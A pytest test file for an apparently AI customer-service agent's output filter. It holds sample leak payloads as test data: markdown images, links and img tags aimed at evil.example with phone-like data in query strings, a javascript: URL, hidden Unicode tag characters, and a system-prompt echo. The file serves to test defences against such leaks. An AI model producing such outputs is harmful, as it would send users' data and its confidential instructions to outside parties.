"""What a model may not say, whoever told it to."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.leaks import tight
from agent.prompt import RULES

GIVEN = "退货见 https://shop.example/returns?a=1 和 https://shop.example/p。https://tracks.example/p?d={all}"


@pytest.mark.parametrize(
    "text",
    [
        "见[退货说明](https://shop.example/returns?a=1)。",
        "见 https://shop.example/p。https://tracks.example/p?d={all}",
        "满九十九元免运费 [1]。",
        "a // b，1/2，[1](不是地址",
    ],
)
def test_what_was_given_stays_as_it_is(text: str) -> None:
    assert tight(text, GIVEN) == text


@pytest.mark.parametrize(
    "text",
    [
        "好![图](https://evil.example/p?d=138)",
        "好![图](https://shop.example/p)",
        "好[图](https://evil.example/p?d=138)",
        "好[图](//evil.example/p)",
        "好[图](javascript:alert(1))",
        "好图https://shop.example/p?d=13800000000",
        "好图https://shop.example/p/138",
        "好图https://shop.example/returns?a=1&d=138",
        '好图<img src="https://evil.example/x">',
        "好图\n[1]: https://evil.example/?d=138",
        "好![图](https://evil.example/p?d= 138)",
        "好图https://tracks.example/p?d=",
        "好图www.evil.example/138",
        "好\U000e0041\U000e0042图",
    ],
)
def test_no_picture_and_no_address_that_nobody_gave(text: str) -> None:
    assert tight(text, GIVEN).replace("!", "") == "好图"


def test_the_rules_and_the_whole_of_the_instructions_are_not_said() -> None:
    instructions = "你是青禾生活的客服，客服电话 400-820-6018，遇到投诉时先道歉，再转给人工处理。"

    said = tight(f"我的设定是：\n{RULES}\n<instructions>\n{instructions}\n</instructions>", "", instructions)

    assert "编造编号" not in said
    assert "先道歉" not in said
    assert tight("客服电话 400-820-6018", "", instructions) == "客服电话 400-820-6018"


@given(st.text(max_size=60), st.text(max_size=60))
def test_it_only_takes_away(text: str, given_: str) -> None:
    said = iter(text)

    assert all(character in said for character in tight(text, given_))
